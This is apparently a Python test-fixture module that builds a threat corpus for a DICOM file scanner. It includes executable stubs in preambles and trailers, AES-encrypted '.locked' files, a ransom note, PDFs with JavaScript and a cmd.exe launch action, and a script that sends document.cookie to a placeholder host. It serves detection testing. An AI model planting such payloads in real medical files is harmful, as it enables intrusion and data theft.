"""Threat corpus for the archive checks, generated from pydicom's bundled test files.

Every :class:`Threat` builds the bytes of one file from a real bundled file and states the exact
findings (rule, severity, evidence subset) that ``radguard.inspect.api`` must return.
:data:`CLEAN` lists bundled files that must give nothing above ``info``. Nothing is downloaded.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pydicom.data

DATA = Path(os.path.dirname(pydicom.data.__file__)) / "test_files"

#: bundled files that are clean (no finding above info), covering explicit/implicit/big endian,
#: deflated, JPEG 2000, RLE multi-frame, multi-frame native, SR and RT objects
CLEAN = (
    "CT_small.dcm", "MR_small.dcm", "MR_small_implicit.dcm", "MR_small_bigendian.dcm", "MR_small_RLE.dcm",
    "JPEG2000.dcm", "rtdose.dcm", "rtplan.dcm", "test-SR.dcm", "SC_rgb_rle_2frame.dcm",
    "image_dfl.dcm", "examples_overlay.dcm", "liver_1frame.dcm", "waveform_ecg.dcm", "UN_sequence.dcm",
)
#: clean files a seal/audit/recover test uses (distinct SOP Instance UIDs)
TREE = ("CT_small.dcm", "MR_small.dcm", "rtdose.dcm", "JPEG2000.dcm", "rtplan.dcm", "test-SR.dcm",
        "SC_rgb_rle_2frame.dcm", "liver_1frame.dcm")

KEY = bytes(range(32))
NONCE = bytes(16)

PE_STUB = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + b"\x80\x00\x00\x00"
           + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$")
ELF_HEAD = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
MACHO_HEAD = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"
SHELL = b"#!/bin/sh\nexec /tmp/.x >/dev/null 2>&1\n"


def read(name: str) -> bytes:
    return (DATA / name).read_bytes()


def with_preamble(name: str, preamble: bytes) -> bytes:
    data = read(name)
    assert data[128:132] == b"DICM"
    return preamble.ljust(128, b"\x00")[:128] + data[128:]


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.exe", PE_STUB * 4)
    return buf.getvalue()


def encrypt(data: bytes) -> bytes:
    """AES-256-CTR with a fixed key (deterministic ciphertext, like a ransomware's)."""
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    enc = Cipher(algorithms.AES(KEY), modes.CTR(NONCE)).encryptor()
    return enc.update(data) + enc.finalize()


def partially_encrypted(name: str, prefix: int = 4096) -> bytes:
    data = read(name)
    return encrypt(data[:prefix]) + data[prefix:]


def encapsulated_document(doc: bytes, mime: str, name: str = "doc") -> bytes:
    from pydicom.dataset import Dataset, FileMetaDataset
    from pydicom.uid import EncapsulatedPDFStorage, ExplicitVRLittleEndian

    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.MediaStorageSOPClassUID = EncapsulatedPDFStorage
    ds.file_meta.MediaStorageSOPInstanceUID = "1.2.826.0.1.3680043.8.498.1." + str(abs(hash(name)) % 10**8)
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds.SOPClassUID = EncapsulatedPDFStorage
    ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID
    ds.Modality = "DOC"
    ds.PatientName = "CORPUS^DOC"
    ds.MIMETypeOfEncapsulatedDocument = mime
    ds.EncapsulatedDocument = doc + (b"\x00" if len(doc) % 2 else b"")
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    return buf.getvalue()


PDF_JS = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
          b"3 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
PDF_LAUNCH = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n"
              b"trailer << /Root 1 0 R >>\n%%EOF\n")
PDF_CLEAN = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PDF_OBFUSCATED = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Names << /#4Aava#53cript 4 0 R >> >> endobj\n"
                  b"trailer << /Root 1 0 R >>\n%%EOF\n")
CDA_SCRIPT = (b'<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"><text>'
              b'<script>fetch("http://x/"+document.cookie)</script></text></ClinicalDocument>')


def with_private(name: str, value: bytes, vr: str = "OB") -> bytes:
    from pydicom import dcmread

    ds = dcmread(DATA / name)
    block = ds.private_block(0x0011, "RADGUARD CORPUS", create=True)
    block.add_new(0x01, vr, value + (b"\x00" if len(value) % 2 else b""))
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    return buf.getvalue()


def bad_vr(name: str) -> tuple[bytes, int]:
    """Corrupt the VR of the 10th data set element; returns bytes and its offset."""
    from radguard.dicom.part10 import parse

    data = bytearray(read(name))
    el = parse(bytes(data)).elements[10]
    data[el.offset + 4 : el.offset + 6] = b"Z!"
    return bytes(data), el.offset


@dataclass(frozen=True)
class Expected:
    rule: str
    severity: str
    evidence: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Threat:
    name: str  # file name in the corpus (extension matters for ransomware checks)
    build: Callable[[], bytes]
    expected: tuple[Expected, ...]
    about: str = ""  # the check this case is for, when it expects no finding

    @property
    def rule(self) -> str:
        """The rule of the check this case exercises (tests/unit/test_check_<name>.py runs it)."""
        return self.about or self.expected[0].rule


def _truncated(at: int) -> Callable[[], bytes]:
    return lambda: read("CT_small.dcm")[:at]


_BAD_VR_OFFSET = bad_vr("MR_small.dcm")[1]

THREATS: tuple[Threat, ...] = (
    Threat("preamble_pe.dcm", lambda: with_preamble("CT_small.dcm", PE_STUB),
           (Expected("executable-preamble", "critical", {"kind": "pe", "first_nonzero_offset": 0}),)),
    Threat("preamble_elf.dcm", lambda: with_preamble("MR_small.dcm", ELF_HEAD),
           (Expected("executable-preamble", "critical", {"kind": "elf"}),)),
    Threat("preamble_macho.dcm", lambda: with_preamble("JPEG2000.dcm", MACHO_HEAD),
           (Expected("executable-preamble", "critical", {"kind": "mach-o"}),)),
    Threat("preamble_shell.dcm", lambda: with_preamble("rtdose.dcm", SHELL),
           (Expected("executable-preamble", "high", {"kind": "script"}),)),
    Threat("preamble_zip.dcm", lambda: with_preamble("rtplan.dcm", b"PK\x03\x04\x14\x00"),
           (Expected("executable-preamble", "high", {"kind": "zip"}),)),
    Threat("preamble_vendor.dcm", lambda: with_preamble("MR_small.dcm", bytes(16) + b"VENDOR-X"),
           (Expected("executable-preamble", "low", {"kind": "other", "first_nonzero_offset": 16}),)),
    Threat("preamble_tiff_le.dcm", lambda: with_preamble("CT_small.dcm", b"II*\x00\x08\x00\x00\x00"), (),
           "executable-preamble"),
    Threat("preamble_tiff_be.dcm", lambda: with_preamble("MR_small.dcm", b"MM\x00*\x00\x00\x00\x08"), (),
           "executable-preamble"),
    Threat("trailer_zip.dcm", lambda: read("CT_small.dcm") + zip_bytes(),
           (Expected("trailing-data", "high", {"kind": "zip", "offset": 39206}),)),
    Threat("trailer_pe.dcm", lambda: read("MR_small.dcm") + PE_STUB,
           (Expected("trailing-data", "critical", {"kind": "pe", "offset": 9830, "size": len(PE_STUB)}),)),
    Threat("trailer_shell_no_pixels.dcm", lambda: read("rtplan.dcm") + SHELL,
           (Expected("trailing-data", "high", {"kind": "script", "offset": 2672}),)),
    Threat("encrypted.dcm.locked", lambda: encrypt(read("CT_small.dcm")),
           (Expected("not-dicom", "critical", {"verdict": "encrypted", "ransom_extension": ".locked"}),)),
    Threat("encrypted_noext.dcm", lambda: encrypt(read("MR_small.dcm")),
           (Expected("not-dicom", "critical", {"verdict": "encrypted"}),)),
    Threat("partial_ct.dcm", lambda: partially_encrypted("CT_small.dcm"),
           (Expected("not-dicom", "critical", {"verdict": "partially-encrypted"}),)),
    Threat("partial_overlay.dcm", lambda: partially_encrypted("examples_overlay.dcm", 1024),
           (Expected("not-dicom", "critical", {"verdict": "partially-encrypted"}),)),
    Threat("README_TO_DECRYPT.txt", lambda: b"Your files are encrypted. Pay 2 BTC in bitcoin to decrypt them.\n",
           (Expected("not-dicom", "critical", {"verdict": "ransom-note"}),)),
    Threat("notes.txt", lambda: b"ward 4 reading list\n",
           (Expected("not-dicom", "low", {"verdict": "foreign"}),)),
    Threat("truncated_100.dcm", _truncated(100), (Expected("not-dicom", "low", {"verdict": "foreign"}),)),
    Threat("truncated_150.dcm", _truncated(150),
           (Expected("malformed", "medium", {"problem": "bad-file-meta"}),)),
    Threat("truncated_1000.dcm", _truncated(1000),
           (Expected("malformed", "medium", {"problem": "truncated"}),)),
    Threat("truncated_7000.dcm", _truncated(7000),
           (Expected("malformed", "medium", {"problem": "truncated", "keyword": "PixelData", "offset": 6300}),)),
    Threat("bad_vr.dcm", lambda: bad_vr("MR_small.dcm")[0],
           (Expected("malformed", "medium", {"problem": "invalid-vr", "offset": _BAD_VR_OFFSET + 4}),)),
    Threat("pdf_js.dcm", lambda: encapsulated_document(PDF_JS, "application/pdf", "js"),
           (Expected("active-content", "high",
                     {"kind": "pdf", "pdf_tokens": ["/JavaScript", "/JS", "/OpenAction"]}),)),
    Threat("pdf_launch.dcm", lambda: encapsulated_document(PDF_LAUNCH, "application/pdf", "launch"),
           (Expected("active-content", "critical", {"kind": "pdf", "pdf_tokens": ["/Launch", "/OpenAction"]}),)),
    Threat("pdf_obfuscated.dcm", lambda: encapsulated_document(PDF_OBFUSCATED, "application/pdf", "obf"),
           (Expected("active-content", "high", {"kind": "pdf", "pdf_tokens": ["/JavaScript"]}),)),
    Threat("pdf_clean.dcm", lambda: encapsulated_document(PDF_CLEAN, "application/pdf", "clean"), (), "active-content"),
    Threat("cda_script.dcm", lambda: encapsulated_document(CDA_SCRIPT, "text/XML", "cda"),
           (Expected("active-content", "high", {"kind": "markup", "markup_tokens": ["<script"]}),)),
    Threat("pdf_is_pe.dcm", lambda: encapsulated_document(PE_STUB, "application/pdf", "pe"),
           (Expected("active-content", "critical", {"kind": "pe"}),)),
    Threat("private_pe.dcm", lambda: with_private("CT_small.dcm", PE_STUB),
           (Expected("active-content", "critical", {"kind": "pe", "keyword": "private", "vr": "OB"}),)),
    Threat("private_zip_un.dcm", lambda: with_private("MR_small.dcm", zip_bytes(), "UN"),
           (Expected("active-content", "high", {"kind": "zip", "vr": "UN"}),)),
    Threat("private_elf.dcm", lambda: with_private("rtdose.dcm", ELF_HEAD * 4),
           (Expected("active-content", "critical", {"kind": "elf"}),)),
)


def assert_exact_findings(threat: Threat, check: Callable[[Any], Any]) -> None:
    """Every check together (:func:`radguard.inspect.api.inspect_bytes`) gives exactly ``threat.expected``, and
    ``check`` (one check module's ``check``) alone gives the same findings of its rule."""
    from radguard.inspect.api import inspect_bytes
    from radguard.inspect.obj import from_bytes

    data = threat.build()
    findings = inspect_bytes(data, threat.name)
    assert [(f.rule, f.severity.value) for f in findings] == [(e.rule, e.severity) for e in threat.expected]
    for f, e in zip(findings, threat.expected, strict=True):
        for key, value in e.evidence.items():
            assert f.evidence.get(key) == value, (key, dict(f.evidence))
        assert f.controls and f.remediation and f.target == threat.name
    alone = list(check(from_bytes(data, threat.name)))
    assert alone == [f for f in findings if f.rule == threat.rule]


def threats_of(rule: str) -> tuple[Threat, ...]:
    """The corpus cases of one check (by its rule id)."""
    return tuple(t for t in THREATS if t.rule == rule)


def write_threats(directory: Path) -> dict[str, Threat]:
    """Write every threat into ``directory``; returns name -> threat."""
    directory.mkdir(parents=True, exist_ok=True)
    out: dict[str, Threat] = {}
    for t in THREATS:
        (directory / t.name).write_bytes(t.build())
        out[t.name] = t
    return out


def write_tree(directory: Path, names: tuple[str, ...] = TREE) -> list[Path]:
    """Copy clean bundled files into ``directory/studyN/`` (two per folder); returns the paths."""
    paths: list[Path] = []
    for i, name in enumerate(names):
        sub = directory / f"study{i // 2}"
        sub.mkdir(parents=True, exist_ok=True)
        p = sub / name
        p.write_bytes(read(name))
        paths.append(p)
    return paths
